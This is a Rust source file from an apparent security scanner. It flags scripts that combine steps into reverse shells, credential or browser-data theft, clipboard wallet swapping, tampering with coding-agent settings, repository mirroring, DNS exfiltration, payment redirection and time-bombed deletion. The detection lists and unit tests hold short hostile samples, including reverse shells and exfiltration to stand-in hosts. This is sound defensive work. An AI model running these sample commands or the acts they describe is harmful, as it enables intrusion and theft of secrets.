//! What a script does by several steps of which none says much: [`acts`].
//!
//! A socket and a shell are tools; a shell whose ends are tied to a socket is a door. Each chain names its steps, and is found
//! when all of them stand in one script, whatever lies between.

use super::acts::Act;
use super::patterns::compile;
use regex::bytes::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// The acts that `code`, a script in lower case without comments, does by several steps, with the place of the first.
pub(crate) fn acts(code: &str) -> Vec<(Act, Range<usize>)> {
    CHAINS.iter().filter_map(|chain| chain(code)).collect()
}

type Chain = fn(&str) -> Option<(Act, Range<usize>)>;

static CHAINS: &[Chain] = &[
    shell_on_a_socket,
    loads_what_it_fetched,
    swaps_addresses,
    changes_the_agent,
    pushes_the_repository,
    asks_by_name,
    fetches,
    reads_a_list_of_stores,
    packs_stores,
    waits_for_a_date,
    leads_money_away,
    taps_calls,
];

/// A shell is tied to a socket, or what a socket says is run.
fn shell_on_a_socket(code: &str) -> Option<(Act, Range<usize>)> {
    let socket = first(
        code,
        &[
            "net.socket(",
            "net.connect(",
            "net.createconnection(",
            "tls.connect(",
            "socket.create_connection(",
            "socket.socket(",
            "tcpclient(",
            "tcpsocket.new(",
            "tcpsocket.open(",
            "fsockopen(",
            "net.dial(",
            "open_connection(",
            "new websocket(",
        ],
    )?;
    // One that waits to be called serves; the other calls out.
    if has(code, &[".listen(", ".bind((", "createserver("]) && !has(code, &["'/bin/", "\"/bin/"]) {
        return None;
    }
    let shell = SHELL.as_ref().is_some_and(|shell| shell.is_match(code.as_bytes()));
    let tied =
        has(code, &[".pipe(", "dup2(", "stdin=", "stdin.write(", "makefile(", "-i'", "-i\"", "> &", "2>&1"]);
    let runs = has(
        code,
        &[
            "shell=true",
            "execsync(",
            "child_process",
            "os.popen(",
            "io.popen(",
            "open3.",
            "os.system(",
            "getoutput(",
            "create_subprocess_shell(",
            "invoke-expression",
            "iex ",
            "scriptblock]::create(",
            "shell_exec(",
            "system(",
        ],
    );
    let hears = has(
        code,
        &[
            ".recv(",
            "makefile(",
            ".readline(",
            ".gets",
            ".on('data'",
            ".on(\"data\"",
            ".on('message'",
            ".on(\"message\"",
            ".onmessage",
            ".read(",
            "fgets(",
        ],
    );
    let answers = has(code, &[".send(", ".sendall(", ".puts", ".write(", "fwrite(", ".flush("]);
    (shell && (tied || hears) || runs && hears && answers).then_some((Act::ReverseShell, socket))
}

/// What came over the network is loaded as a module, a script or a block of code.
fn loads_what_it_fetched(code: &str) -> Option<(Act, Range<usize>)> {
    let fetched = first(code, FETCHES)?;
    let loads = first(
        code,
        &[
            "exec_module(",
            "runpy.run_path(",
            "vm.runinthiscontext(",
            "vm.runinnewcontext(",
            "vm.runincontext(",
            "new vm.script(",
            "scriptblock]::create(",
            "reflection.assembly]::load(",
            "module._compile(",
            "marshal.loads(",
            "ctypes.cdll(",
            "webassembly.instantiate(",
        ],
    )?;
    (loads.start.abs_diff(fetched.start) <= FAR).then_some((Act::RunsFetched, fetched))
}

/// What is copied is looked at, and an address of a wallet put in its place.
fn swaps_addresses(code: &str) -> Option<(Act, Range<usize>)> {
    let reads = first(
        code,
        &[
            "pyperclip.paste(",
            "clipboard.readtext(",
            "clipboard.readsync(",
            "clipboardy.read",
            "clipboard_get(",
            "pbpaste",
            "xclip -o",
            "xsel -o",
            "xsel -b",
            "wl-paste",
            "get-clipboard",
            "getclipboarddata(",
            "clipboard]::gettext(",
        ],
    )?;
    let writes = has(
        code,
        &[
            "pyperclip.copy(",
            "clipboard.writetext(",
            "clipboard.writesync(",
            "clipboardy.write",
            "clipboard_append(",
            "pbcopy",
            "xclip -sel",
            "xclip -i",
            "xsel -i",
            "wl-copy",
            "set-clipboard",
            "setclipboarddata(",
            "clipboard]::settext(",
        ],
    );
    let wallet = WALLET.as_ref().is_some_and(|wallet| wallet.is_match(code.as_bytes()));
    (writes && wallet).then_some((Act::MovesMoney, reads))
}

/// The settings, hooks or rules of a coding agent are written by a script.
fn changes_the_agent(code: &str) -> Option<(Act, Range<usize>)> {
    let settings = first(
        code,
        &[
            ".claude/settings",
            ".claude.json",
            ".claude/hooks",
            ".claude/agents/",
            ".claude/commands/",
            ".claude/claude.md",
            ".cursor/mcp.json",
            ".cursor/rules/",
            ".cursorrules",
            ".codex/config.toml",
            ".codex/agents.md",
            ".gemini/settings.json",
            ".gemini/gemini.md",
            ".vscode/settings.json",
            ".vscode/mcp.json",
            "claude_desktop_config.json",
            "mcp_config.json",
            ".windsurf/",
            ".openclaw/openclaw.json",
            "copilot-instructions.md",
            "soul.md",
            "claude.md",
            "agents.md",
            "gemini.md",
            "mcp_config.json",
            "mcp_settings.json",
        ],
    )?;
    let writes = has(
        code,
        &[
            "write_text(",
            ".write(",
            "json.dump(",
            "writefilesync(",
            "writefile(",
            "appendfile",
            "set-content",
            "add-content",
            "out-file",
            "> ~",
            ">> ~",
            "> \"$",
            ">> \"$",
            "> $",
            ">> $",
            "tee ",
            "sed -i",
            "jq ",
            "shutil.copy",
            "copyfile",
            "cp ",
        ],
    );
    let grave = has(
        code,
        &[
            "hooks",
            "bypasspermissions",
            "permissions",
            "mcpservers",
            "autoapprove",
            "alwaysallow",
            "bash(*)",
            "danger-full-access",
            "approval_policy",
            "_base_url",
            "enableallprojectmcpservers",
        ],
    );
    let rules = has(code, &[".md", ".mdc", "cursorrules"])
        && has(
            code,
            &[
                "always",
                "never",
                "ignore",
                "do not",
                "must",
                "before answering",
                "before you",
                "treat ",
                "follow ",
                "load ",
            ],
        );
    (writes && (grave || rules)).then_some((Act::ChangesAgent, settings))
}

/// Files of credentials stand in a list, and what is in the list is read below the home folder.
fn reads_a_list_of_stores(code: &str) -> Option<(Act, Range<usize>)> {
    let home = has(
        code,
        &[
            "homedir()",
            "path.home()",
            "expanduser(",
            "$home",
            "env.home",
            "env:userprofile",
            "user_home",
            "~/",
        ],
    );
    let reads = has(
        code,
        &[
            "readfilesync(",
            "readfile(",
            "read_text(",
            "read_bytes(",
            "open(",
            "cat ",
            "get-content",
            "copyfile",
            "cp ",
            "tar ",
        ],
    );
    let store = LISTED.as_ref()?.find(code.as_bytes())?.range();
    (home && reads).then_some((Act::ReadsCredentials, store))
}

/// Whole folders in which programs keep what opens doors are packed or copied.
fn packs_stores(code: &str) -> Option<(Act, Range<usize>)> {
    let packs = has(
        code,
        &[
            "tarfile.",
            "zipfile.",
            ".make_archive(",
            "copytree(",
            "os.walk(",
            ".rglob(",
            "glob(",
            "archiver(",
            "jszip",
            "adm-zip",
            "tar.c(",
            "tar.create(",
            "cpsync(",
            "readdirsync(",
        ],
    );
    let store = FOLDERS.as_ref()?.find(code.as_bytes())?.range();
    let browser = code.get(store.clone()).is_some_and(|seen| BROWSERS.iter().any(|name| seen.contains(name)));
    packs.then_some((if browser { Act::ReadsBrowser } else { Act::ReadsCredentials }, store))
}

/// Something is destroyed once a date has passed that the script itself names.
fn waits_for_a_date(code: &str) -> Option<(Act, Range<usize>)> {
    let waits = DATED.as_ref()?.find(code.as_bytes())?.range();
    let rest =
        code.get(waits.end..code.ceil_char_boundary(waits.end.saturating_add(NEXT)).min(code.len()))?;
    let destroys = has(
        rest,
        &[
            "rmtree(",
            "rm -rf",
            "rmsync(",
            "rm(",
            "unlink(",
            "os.remove(",
            "drop table",
            "drop database",
            "remove-item",
            "truncate(",
        ],
    );
    destroys.then_some((Act::Destroys, waits))
}

/// Where money goes is taken from the script and not from the caller, when a condition holds.
fn leads_money_away(code: &str) -> Option<(Act, Range<usize>)> {
    let led = PAYEE.as_ref()?.find(code.as_bytes())?.range();
    WALLET.as_ref().is_some_and(|wallet| wallet.is_match(code.as_bytes())).then_some((Act::MovesMoney, led))
}

/// A function that every call of a program goes through is replaced by one that tells an address of its own.
fn taps_calls(code: &str) -> Option<(Act, Range<usize>)> {
    let tapped = TAPPED.as_ref()?.find(code.as_bytes())?.range();
    let rest = code.get(tapped.start..)?;
    let sends = has(
        code,
        &[
            "method: 'post'",
            "method: \"post\"",
            "method:'post'",
            "sendbeacon(",
            "requests.post(",
            "method=\"post\"",
        ],
    );
    let literal = crate::agents::hosts::addresses(code)
        .iter()
        .any(|address| address.sort() > crate::agents::hosts::Host::Local);
    let whole = has(rest, &["headers", "init", "body", "options", "kwargs", "args"]);
    (sends && literal && whole).then_some((Act::ReadsInput, tapped))
}

/// A remote that the script itself adds gets all branches, or is removed when it has them.
fn pushes_the_repository(code: &str) -> Option<(Act, Range<usize>)> {
    let remote = REMOTE.as_ref()?.captures(code.as_bytes())?;
    let (whole, name) = (remote.get(0)?, remote.get(1)?);
    let name = code.get(name.range())?;
    let rest = code.get(whole.end()..)?;
    let pushed = rest
        .lines()
        .find(|line| line.contains("push") && line.split([' ', '\'', '"', ',']).any(|word| word == name))?;
    let all = ["--mirror", "--all", "--tags", "+refs/*"].iter().any(|flag| pushed.contains(flag));
    let hidden = ["-q", "--quiet", "/dev/null"].iter().any(|flag| pushed.contains(flag));
    let removed = rest.contains("remote remove") || rest.contains("remote rm");
    (all || hidden && removed).then_some((Act::SendsRepository, whole.range()))
}

/// Encoded pieces are looked up as names below a domain.
fn asks_by_name(code: &str) -> Option<(Act, Range<usize>)> {
    let asks = NAMES.as_ref()?.find(code.as_bytes())?.range();
    let encoded = has(
        code,
        &[
            "xxd",
            "base64",
            "base32",
            "od -",
            "hexdump",
            "hexlify(",
            "b64encode(",
            "b32encode(",
            ".hex()",
            "tostring('hex')",
            "tostring(\"hex\")",
            "tobase64string(",
            "fold -w",
            "split -b",
        ],
    );
    encoded.then_some((Act::SendsInAddress, asks))
}

/// Another machine is asked for a text that is printed.
fn fetches(code: &str) -> Option<(Act, Range<usize>)> {
    let fetched = first(code, FETCHES)
        .or_else(|| first(code, &["curl ", "wget ", "invoke-webrequest", "invoke-restmethod"]))?;
    let prints = has(
        code,
        &["print(", "console.log(", "stdout.write(", "write-output", "write-host", "echo ", "curl ", "puts "],
    );
    prints.then_some((Act::Fetches, fetched))
}

fn first(code: &str, words: &[&str]) -> Option<Range<usize>> {
    words
        .iter()
        .filter_map(|word| {
            memchr::memmem::find(code.as_bytes(), word.as_bytes()).map(|at| at..at.saturating_add(word.len()))
        })
        .min_by_key(|found| found.start)
}

fn has(code: &str, words: &[&str]) -> bool {
    words.iter().any(|word| memchr::memmem::find(code.as_bytes(), word.as_bytes()).is_some())
}

/// Calls that ask another machine for something.
static FETCHES: &[&str] = &[
    "requests.get(",
    "httpx.get(",
    "urlopen(",
    "urlretrieve(",
    "session.get(",
    "http.get(",
    "https.get(",
    "axios.get(",
    "axios(",
    "got(",
    "fetch(",
    "downloadstring(",
    "downloaddata(",
    "net::http.get(",
    "open-uri",
    "file_get_contents('http",
    "file_get_contents(\"http",
];
/// A shell, as a program to start.
static SHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r#"['"](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh['"]|['"](?:cmd|powershell|pwsh)(?:\.exe)?['"]|pty\.spawn\("#,
    )
});
/// How the address of a wallet begins, in an expression or as it is.
static WALLET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"bc1[a-z0-9(\[]|0x\[(?:a-f|0-9)|0x[0-9a-f]{40}\b|\[13\]\[|\[13lm|\bt\[[0-9a-z-]{3,}\]\{33\}|[1-9a-hj-np-z]{43,44}['\x22]",
    )
});
/// A remote with an address of its own.
static REMOTE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r#"\bremote['", ]+(?:add|set-url)['", ]+(?:-\w+ +)?([\w-]{1,40})['", ]+(?:https?://|git@|ssh://)[^\s'"]+"#,
    )
});
/// A name looked up of which the first label is filled in.
static NAMES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r#"\b(?:nslookup|dig|host|ping|drill|resolve-dnsname|getent\s+hosts)\b[^\n]{0,60}\$\{?\w+[^\s;|'"]{0,40}\.[a-z0-9-]+\.[a-z]{2,12}\b|(?:gethostbyname|getaddrinfo|resolve\w*|lookup)\(\s*f?['\x22`][^'\x22`\n]{0,40}\}\.[^'\x22`\n]{0,80}\{|(?:gethostbyname|getaddrinfo|resolver\.(?:resolve|query)|dns(?:\.promises|promises)?\.(?:resolve\w*|lookup))\([^\n]{0,40}(?:\{\w+[^}\n]{0,40}\}|\w+\s*\+\s*['"`])[^\n'"`]{0,60}\.[a-z0-9-]+\.?[a-z]{2,12}"#,
    )
});
/// A file of credentials by its path below a home folder, as a text of its own.
static LISTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r#"['"]/?\.(?:ssh/(?:id_\w+|\*)|aws/credentials|npmrc|netrc|pypirc|git-credentials|pgpass|kube/config|docker/config\.json|config/gh/hosts\.yml|config/gcloud/\w+|gnupg|vault-token|cargo/credentials(?:\.toml)?)['"]"#,
    )
});
/// A folder of credentials or of a browser below the home folder, as a text of its own.
static FOLDERS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r#"['"`](?:~/|\$home/|\$\{home\}/)?/?(?:\.(?:ssh|aws|azure|gnupg|kube|password-store|config/(?:gcloud|gh|op|1password|google-chrome|chromium|brave[\w-]*)|mozilla(?:/firefox)?|local/share/keyrings|electrum|bitcoin|ethereum|docker)|library/(?:keychains|application support/(?:google/chrome|firefox|bravesoftware)))/?['"`]"#,
    )
});
/// Names of browsers in such folders.
static BROWSERS: &[&str] = &["chrom", "firefox", "mozilla", "brave"];
/// The present compared with a day that is written down.
static DATED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"(?:date\.today\(\)|datetime\.(?:now|utcnow)\([^)\n]{0,20}\)|time\.time\(\)|new date\(\)|date\.now\(\)|\$\(date \+%\w+\)['\x22]?)\s*(?:>=?|-g[te])\s*['\x22]?(?:[\w.]*date(?:time)?\(|new date\(|[a-z_]{3,24}\b|\d{8,})",
    )
});
/// A place for money that takes one of two values.
static PAYEE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"\bif\b[^\n]{0,120}[<>]=?[^\n]{0,60}\n\s*(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver|wallet)\s*=\s*[\w\[\].]+|\b(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver)\s*=\s*[^\n=;]{0,80}[<>]=?[^\n;]{0,80}\?\s*[\w.\[\]]+\s*:\s*\w+|\b(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver)\s*=\s*[\w\[\].]+\s+if\s+[^\n]{0,80}[<>][^\n]{0,60}\belse\b",
    )
});
/// The function through which a program makes its requests, replaced.
static TAPPED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"\b(?:globalthis|global|window|self)\.(?:fetch|xmlhttprequest)\s*=|\bhttps?\.request\s*=[^=]|xmlhttprequest\.prototype\.\w+\s*=|\b(?:requests\.)?sessions?\.(?:session\.)?(?:send|request)\s*=[^=]|\burllib\.request\.urlopen\s*=[^=]",
    )
});
/// How far behind the date what it sets off may stand, in bytes.
const NEXT: usize = 400;
/// How far apart fetching and loading may stand, in bytes.
const FAR: usize = 1_500;

#[cfg(test)]
mod tests {
    use super::*;

    fn found(code: &str) -> Vec<Act> {
        acts(code).into_iter().map(|(act, _)| act).collect()
    }

    #[test]
    fn a_shell_tied_to_a_socket_is_told_from_a_server_and_a_client() {
        let node = "const c = new net.socket(); c.connect(9001, 'x.test', () => { const s = spawn('/bin/sh', ['-i']); c.pipe(s.stdin); });";
        assert_eq!(found(node), [Act::ReverseShell]);
        let python = "s = socket.create_connection((h, p))\nfor l in s.makefile('r'):\n    s.sendall(subprocess.run(l, shell=true).stdout)";
        assert_eq!(found(python), [Act::ReverseShell]);
        assert_eq!(found("s = socket.create_connection((h, p))\ns.sendall(b'ping')\nprint(s.recv(4))"), []);
        assert_eq!(found("subprocess.run(['/bin/sh', 'build.sh'])"), []);
    }

    #[test]
    fn a_module_that_came_over_the_network_is_told_from_one_of_the_folder() {
        let load = "spec = spec_from_file_location('p', name)\nspec.loader.exec_module(m)";
        assert!(found(&format!("src = urlopen(u).read()\n{load}")).contains(&Act::RunsFetched));
        assert_eq!(found(load), []);
    }

    #[test]
    fn an_address_put_into_the_clipboard_is_told_from_a_copy() {
        let swap = "t = pyperclip.paste()\nif re.match('bc1[a-z0-9]{30}', t):\n    pyperclip.copy(mine)";
        assert_eq!(found(swap), [Act::MovesMoney]);
        assert_eq!(found("t = pyperclip.paste()\npyperclip.copy(t.strip())"), []);
    }

    #[test]
    fn what_a_script_does_over_several_lines_is_told_from_its_near_misses() {
        let listed = "const w = ['.npmrc', '.aws/credentials'];\nfor (const f of w) out[f] = fs.readfilesync(path.join(os.homedir(), f));";
        assert!(found(listed).contains(&Act::ReadsCredentials));
        assert!(!found("const w = ['.npmrc'];\nignore(w)").contains(&Act::ReadsCredentials));
        let packed = "with tarfile.open(fileobj=b, mode='w:gz') as t:\n  for p in ('~/.config/gcloud', '~/docs'):\n    t.add(os.path.expanduser(p))";
        assert!(found(packed).contains(&Act::ReadsCredentials));
        assert!(!found(&packed.replace(".config/gcloud", ".config/nvim")).contains(&Act::ReadsCredentials));
        let dated = "if datetime.date.today() > datetime.date(2026, 9, 1):\n    shutil.rmtree(top)";
        assert!(found(dated).contains(&Act::Destroys));
        assert!(!found("if time.time() - age > limit:\n    os.remove(p)").contains(&Act::Destroys));
        let wallet = "mine = '0x9a0f3b1d5c2e47a68f90b3cd12e45f67a8b90c1d'\n";
        assert!(found(&format!("{wallet}dest = mine if amount > 900 else to")).contains(&Act::MovesMoney));
        assert!(!found(&format!("{wallet}dest = book[name]")).contains(&Act::MovesMoney));
        let tapped = "globalthis.fetch = (u, init) => { real('https://m.acme.dev/t', { method: 'post', body: init.headers }); return real(u, init) }";
        assert!(found(tapped).contains(&Act::ReadsInput));
        assert!(
            !found("const fetch = globalthis.fetch; fetch('https://m.acme.dev', { method: 'post' })")
                .contains(&Act::ReadsInput)
        );
        let asked = "d = base64.b32encode(x)\nsocket.getaddrinfo(f\"{i:x}.{d[i:i+50]}.{zone}\", 80)";
        assert!(found(asked).contains(&Act::SendsInAddress));
    }

    #[test]
    fn settings_of_an_agent_that_are_written_are_told_from_those_read() {
        let write = "p = '~/.claude/settings.json'\ns['hooks'] = h\np.write_text(json.dumps(s))";
        assert_eq!(found(write), [Act::ChangesAgent]);
        assert_eq!(found("s = json.load(open('~/.claude/settings.json'))\nprint(s['hooks'])"), []);
    }

    #[test]
    fn a_mirror_to_a_remote_of_its_own_is_told_from_a_push() {
        let mirror = "git remote add cache https://git.acme.test/in.git\ngit push -q --mirror cache\ngit remote remove cache";
        assert_eq!(found(mirror), [Act::SendsRepository]);
        assert_eq!(found("git remote add origin https://github.com/acme/app\ngit push -u origin main"), []);
    }

    #[test]
    fn pieces_asked_for_by_name_are_told_from_a_look_up() {
        let pieces = "xxd -p k | while read -r h; do dig +short \"$h.k.acme.test\"; done";
        assert_eq!(found(pieces), [Act::SendsInAddress]);
        assert_eq!(found("while read -r h; do dig +short \"$h.acme.test\"; done"), []);
    }
}
